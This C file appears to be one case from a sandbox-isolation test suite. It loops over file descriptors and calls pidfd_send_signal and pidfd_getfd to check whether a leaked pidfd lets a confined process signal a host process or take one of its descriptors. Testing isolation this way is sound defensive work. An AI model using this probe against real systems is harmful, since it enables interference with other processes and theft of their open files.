/*
 * Uses a pidfd the caller left open.
 *
 * group: descriptors
 * tries: signal a host process through a leaked pidfd, and take a descriptor of it
 * control: plain
 * leak: pidfd
 * shows: victim-signalled
 */
#include "attack.h"

int main(int argc, char **argv)
{
	long sent = -1, taken = -1;

	(void)argc;
	(void)argv;
	for (int fd = 3; fd < 4096; fd++) {
		if (sent < 0)
			sent = syscall(SYS_pidfd_send_signal, fd, SIGUSR1, NULL, 0);
		if (taken < 0)
			taken = syscall(SYS_pidfd_getfd, fd, 0, 0);
	}
	errno = EBADF;
	tried("signal", sent);
	tried("getfd", taken);
	return ended();
}
